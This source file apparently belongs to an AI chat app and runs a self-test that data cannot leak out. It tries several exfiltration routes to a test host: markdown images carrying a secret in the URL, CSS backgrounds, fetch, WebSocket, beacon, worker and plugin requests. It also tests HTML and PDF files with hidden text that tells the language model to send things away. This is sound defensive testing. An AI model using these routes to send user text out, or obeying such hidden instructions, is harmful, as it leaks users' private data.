import { render } from "solid-js/web";
import type { Api } from "../../app/client/client.ts";
import { AnswerText } from "../chat/answer-text.tsx";
import { hiddenTextHtml, hiddenTextPdf, INJECTION, SEEN } from "./hidden-text-files.ts";
import { byPolicy, withElement, type Outcome, type Target } from "./leaks.ts";
import { sealedHere } from "../../sandbox/allowed.ts";
import { leakFromDocument } from "../../sandbox/component/leak-from-document.ts";
import { tryToLeak } from "../../sandbox/try-to-leak.ts";
import { readAndForget } from "./read-and-forget.ts";

export interface Attempt {
  readonly id: string;
  readonly title: string;
  /** What a leak this way would look like. */
  readonly what: string;
  run(target: Target, api: Api): Promise<Outcome>;
}

export const ATTEMPTS: readonly Attempt[] = [
  {
    id: "answer-image",
    title: "An image in an answer",
    what: "A document makes the answer hold an image whose address carries your text.",
    run: imageInAnswer,
  },
  {
    id: "image",
    title: "An image from elsewhere",
    what: "A script puts such an image into the page itself.",
    run: (target) => byPolicy(target, () => (new Image().src = `https://${target.host}/pixel.png?your-text`)),
  },
  {
    id: "preview",
    title: "A preview of a link",
    what: "A link in an answer is looked up before anybody clicked it.",
    run: linkInAnswer,
  },
  {
    id: "css",
    title: "A picture named by a style",
    what: "A style sheet asks for a background picture.",
    run: cssUrl,
  },
  {
    id: "html",
    title: "Hidden words in an HTML file",
    what: "Invisible text tells the language model to send things away.",
    run: (_, api) => hiddenWords(api, hiddenTextHtml()),
  },
  {
    id: "pdf",
    title: "Hidden words in a PDF",
    what: "The same in white letters on a white page.",
    run: (_, api) => hiddenWords(api, hiddenTextPdf()),
  },
  {
    id: "plugin",
    title: "A plugin that asks for an address",
    what: "The code of a plugin, run as all plugins are, tries to send something.",
    run: codeOfPlugin,
  },
  {
    id: "component",
    title: "A plugin with a document of its own",
    what: "A module made with React or the like tries fourteen ways out, from requests to hints for the browser.",
    run: componentOfPlugin,
  },
  {
    id: "fetch",
    title: "A request by the page",
    what: "Code of this page sends your text to an address.",
    run: (target) =>
      byPolicy(target, () => fetch(`https://${target.host}/`, { method: "POST", body: "your text" }).catch(() => null)),
  },
  {
    id: "worker",
    title: "A request by a worker",
    what: "The same from a worker that the page started.",
    run: requestByWorker,
  },
  {
    id: "socket",
    title: "A WebSocket",
    what: "A line that stays open, to anywhere.",
    run: (target) => byPolicy(target, () => new WebSocket(`wss://${target.host}/`)),
  },
  {
    id: "events",
    title: "A stream of events",
    what: "Listening to a foreign server.",
    run: async (target) => {
      let source: EventSource | undefined;
      const outcome = await byPolicy(target, () => (source = new EventSource(`https://${target.host}/`)));
      source?.close();
      return outcome;
    },
  },
  {
    id: "beacon",
    title: "A beacon",
    what: "A last message that browsers send while a page closes.",
    run: (target) => byPolicy(target, () => navigator.sendBeacon(`https://${target.host}/`, "your text")),
  },
];

function imageInAnswer({ host }: Target): Promise<Outcome> {
  const source = `Look ![here](https://${host}/a.png?q=secret) and <img src="https://${host}/b.png"> and [x]: https://${host}`;
  return shownAsText(source, "Answers are shown as text: the image became words, and nothing was asked for.");
}

/**
 * Whether a link is harmless is decided here and not by the policy: for a frame, Chromium opens a connection to the host
 * before it asks the policy, and the host's name alone can carry a secret. So nothing may be made of a link but a link.
 */
function linkInAnswer({ host }: Target): Promise<Outcome> {
  const source = `See [the page](https://${host}/a?q=secret), https://${host}/b and <iframe src="https://${host}/c"></iframe>.`;
  return shownAsText(source, "A link stays a link: nothing is loaded before someone clicks it.");
}

/** What makes a browser ask for something as soon as it is in a page. */
const LOADS =
  "img, picture, video, audio, iframe, frame, object, embed, link, script, style, meta, [style], [background]";

async function shownAsText(source: string, how: string): Promise<Outcome> {
  const place = document.createElement("div");
  return withElement(place, async () => {
    const dispose = render(() => <AnswerText source={source} receipts={[]} citation={() => null} />, place);
    const loads = place.querySelectorAll(LOADS).length;
    const shown = (place.textContent ?? "").trim() !== "";
    dispose();
    if (!shown) return { stopped: false, how: "The answer was not shown at all, so nothing can be said." };
    return loads === 0
      ? { stopped: true, how }
      : { stopped: false, how: "The answer holds something that the browser would load." };
  });
}

async function cssUrl(target: Target): Promise<Outcome> {
  const box = document.createElement("div");
  const sheet = document.createElement("style");
  const name = `leak-${target.host.slice(5, 13)}`;
  sheet.textContent = `.${name} { position: fixed; width: 1px; height: 1px; background: url("https://${target.host}/style.png"); }`;
  box.className = name;
  box.setAttribute("aria-hidden", "true");
  document.head.append(sheet);
  try {
    return await byPolicy(target, () => document.body.append(box));
  } finally {
    box.remove();
    sheet.remove();
  }
}

async function hiddenWords(api: Api, file: File): Promise<Outcome> {
  const text = await readAndForget(api, file);
  if (!text.includes(SEEN)) return { stopped: false, how: "The file was not read whole, so nothing can be said." };
  return text.includes(INJECTION)
    ? { stopped: false, how: "The hidden words were read like the others: a language model would see them." }
    : { stopped: true, how: "What nobody sees was left out when the file was read. No language model is given it." };
}

async function codeOfPlugin({ host }: Target): Promise<Outcome> {
  const place = document.createElement("div");
  const { ran, out, directive } = await withElement(place, () => tryToLeak(place, host));
  if (!ran) return { stopped: true, how: "The plugin's frame did not come up, so its code did not even run." };
  if (out.length > 0) return { stopped: false, how: `The plugin ran and had ${out.join(", ")}.` };
  const policy = directive ? ` (${directive})` : "";
  return {
    stopped: true,
    how: `The plugin ran, without a document or an origin. The policy of its frame${policy} allows it no host at all.`,
  };
}

async function componentOfPlugin({ host }: Target): Promise<Outcome> {
  if (!(await sealedHere()))
    return {
      stopped: true,
      how: "This browser cannot close such a document, so none runs here unless you allow it for one plugin.",
    };
  const place = document.createElement("div");
  const { ran, out } = await withElement(place, () => leakFromDocument(place, host));
  if (!ran) return { stopped: true, how: "The plugin's document did not come up, so its code did not run to its end." };
  if (out.length > 0) return { stopped: false, how: `The plugin ran and had ${out.join(", ")}.` };
  return { stopped: true, how: "The plugin ran. The browser lets its document open no connection to any host." };
}

async function requestByWorker(target: Target): Promise<Outcome> {
  const worker = new Worker(new URL("../../workers/leak.worker.ts", import.meta.url), { type: "module" });
  try {
    const directive = await new Promise<string | null>((resolve) => {
      worker.addEventListener("message", ({ data }: MessageEvent<string | null>) => resolve(data));
      worker.addEventListener("error", () => resolve("worker-src"));
      worker.postMessage(target.host);
    });
    return directive
      ? { stopped: true, how: `The browser stopped it: the worker is under the same policy (${directive}).` }
      : { stopped: false, how: "No policy stopped it. Whoever serves this page sends none with it." };
  } finally {
    worker.terminate();
  }
}
